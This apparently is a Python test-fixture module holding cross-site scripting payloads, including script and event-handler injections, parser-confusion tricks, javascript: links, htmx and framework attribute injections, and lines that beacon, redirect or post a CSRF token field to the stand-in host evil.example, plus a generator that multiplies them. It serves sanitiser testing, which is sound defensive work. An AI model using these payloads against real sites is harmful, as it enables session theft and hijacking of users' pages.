"""Text that would run if a page took it for markup: what people type into fields, and authors into Markdown.

Written for this site, by the families that real leaks fall into; ``LARGE`` multiplies them out.
"""

from collections.abc import Iterator
from itertools import product

from tests.reference.test_question_text import HOSTILE

RUN = "alert(1)"
CANARY = "canary"
"""The query of the requests that only markup of a writer would send."""

ON_THEIR_OWN = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<video><source src=x onerror={RUN}></video>",
    f"<object data='data:text/html,x' onerror={RUN}></object>",
    f"<style onload={RUN}>a{{}}</style>",
    f"<link rel=stylesheet href=x onerror={RUN}>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x:x onerror='{RUN}'//",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><svg/onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"<x><![CDATA[</x><script>{RUN}</script>]]>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\n>{RUN}</script\n>",
    f"<img/src=x/onerror={RUN}/>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<table><td background='x'><img src=x onerror={RUN}></table>",
]
"""Most of these run by themselves where a page takes them for markup: the positive control counts how many."""

WITH_HELP = [
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<p hx-get='/accounts/data/?{CANARY}' hx-trigger=load>x</p>",
    f"<p data-hx-get='/accounts/data/?{CANARY}' data-hx-trigger=load>x</p>",
    "<p hx-on:click='alert(1)' hx-on::load='alert(1)' hx-on:htmx:load='alert(1)'>x</p>",
    f"<p data-hx-post='/accounts/logout/?{CANARY}' data-hx-trigger='load'>x</p>",
    "<div hx-ext='x' hx-ws='connect:wss://evil.example'>x</div>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
    "<p x-data x-init='alert(1)'>x</p>",
    "<p v-on:click='alert(1)' ng-app>{{constructor.constructor('alert(1)')()}}</p>",
    "<img src=https://evil.example/beacon.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<video autoplay src=https://evil.example/x.mp4 poster=https://evil.example/x.png></video>",
    "<svg><use href=https://evil.example/x.svg#x></svg>",
    "<svg><image href=https://evil.example/x.png></svg>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</p>",
    "<style>body:has(input:checked){background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p class='btn go visually-hidden message error'>x</p>",
    "<form id=submit-form action=https://evil.example/><input name=csrfmiddlewaretoken></form>",
    "<img name=cookie><img name=body><form name=forms><input name=submit></form>",
    "<a id=defaultView name=getElementById>x</a><div id=room data-code=x></div>",
    "<dialog open id=confirm>x</dialog><template id=words><p data-word=saved>x</p></template>",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %> %(password)s {0.__class__}",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    '[x](https://ok.example/"onmouseover=alert(1)//)',
    "[x](https://ok.example 'a' onmouseover=alert(1))",
    "![x](https://evil.example/beacon.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| <svg onload=alert(1)> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <img src=x onerror=alert(1)>\n  - <svg/onload=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "x { onclick=alert(1) .btn #room }",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
]

SMALL = list(dict.fromkeys([*ON_THEIR_OWN, *WITH_HELP, *MARKDOWN, *HOSTILE]))


def _large() -> Iterator[str]:
    tags = (
        *("img src=x", "svg", "svg/", "body", "details open", "input autofocus", "video src=x", "audio src=x"),
        *("marquee", "iframe src=x", "object data=x", "embed src=x", "style", "math", "select autofocus"),
        *("a href=x", "x", "p", "td"),
    )  # fmt: skip
    events = ("onerror", "onload", "onfocus", "ontoggle", "onbegin", "onmouseover", "ONERROR", "onanimationstart")
    joins = (" ", "/", "\n", "\t", "\x0c", "/x/", "\0")
    breaks = ("", '">', "'>", "-->", "</textarea>", "</title>", "</style>", "</script>", "]]>", "`", "</code></pre>")
    for tag, event, join, out in product(tags, events, joins, breaks):
        yield f"{out}<{tag}{join}{event}={RUN}>"
    links = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "&#x6a;avascript:", "javascript&colon;")
    shapes = (
        "[x]({}alert(1))",
        "[x](<{}alert(1)>)",
        "<{}alert(1)>",
        "<a href='{}alert(1)'>x</a>",
        "[x]: {}alert(1)\n\n[x]",
    )
    for link, shape in product((*links, "data:text/html,<script>alert(1)</script>", "vbscript:"), shapes):
        yield shape.format(link)
    wraps = (
        "{}",
        "**{}**",
        "- {}",
        "> {}",
        "| {} |\n|---|\n| {} |",
        "`{}`",
        "[{}](https://ok.example)",
        "&lt;{}&gt;",
        "<b>{}",
    )
    for wrap, one in product(wraps, SMALL):
        yield wrap.replace("{}", one)


LARGE = list(dict.fromkeys(_large()))
